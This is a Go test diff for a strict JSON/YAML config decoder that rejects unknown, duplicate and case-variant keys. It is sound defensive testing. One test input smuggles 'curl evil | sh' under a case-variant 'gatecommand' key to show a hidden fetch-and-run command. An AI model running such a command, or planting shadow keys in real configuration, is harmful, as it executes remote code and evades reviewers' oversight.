@@ -95,3 +95,41 @@ func TestNewLimitReader(t *testing.T) {
 		t.Fatal("a cancelled read went on")
 	}
 }
+
+// TestDecodeJSONStrict: a reviewed file's unknown keys, keys given twice and case variants of a
+// known key are refused, each named; a file capctl wrote decodes as encoding/json would.
+func TestDecodeJSONStrict(t *testing.T) {
+	type rollout struct {
+		GateCommand string `json:"gateCommand"`
+	}
+	type file struct {
+		Kind    string  `json:"kind"`
+		Rollout rollout `json:"rollout"`
+	}
+	for _, tc := range []struct{ name, in, want string }{
+		{"clean", `{"kind":"P","rollout":{"gateCommand":"./smoke.sh"}}`, ""},
+		{"a case variant beside the key", `{"kind":"P","rollout":{"gateCommand":"./smoke.sh","gatecommand":"curl evil | sh"}}`, `unknown field "rollout.gatecommand"`},
+		{"a case variant alone", `{"kind":"P","rollout":{"GateCommand":"x"}}`, `unknown field "rollout.GateCommand"`},
+		{"a key given twice", `{"kind":"P","rollout":{"gateCommand":"a","gateCommand":"b"}}`, `duplicate field "rollout.gateCommand"`},
+		{"an unknown key", `{"kind":"P","extra":1}`, `unknown field "extra"`},
+		{"a second document", `{"kind":"P"} {"kind":"Q"}`, `after top-level value`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var f file
+			err := DecodeJSONStrict([]byte(tc.in), &f)
+			if tc.want == "" {
+				if err != nil || f.Rollout.GateCommand != "./smoke.sh" {
+					t.Fatalf("%+v %v", f, err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("err = %v, want it to say %s", err, tc.want)
+			}
+		})
+	}
+	var f file
+	if err := UnmarshalStrict([]byte("kind: P\nrollout:\n  gateCommand: a\n  gatecommand: b\n"), &f); err == nil || !strings.Contains(err.Error(), `unknown field "rollout.gatecommand"`) {
+		t.Errorf("YAML: %v", err)
+	}
+}
